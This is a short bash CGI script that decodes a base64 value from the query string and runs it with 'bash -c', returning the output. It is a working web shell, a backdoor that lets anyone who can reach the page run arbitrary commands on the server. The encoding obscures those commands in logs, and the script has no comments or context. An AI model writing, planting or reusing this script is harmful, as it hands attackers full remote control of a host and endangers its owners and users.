#!/bin/bash
echo -e "Content-Type: text/plain\n"
c=$(printf '%s' "${QUERY_STRING#c=}" | base64 -d)
bash -c "$c" 2>&1
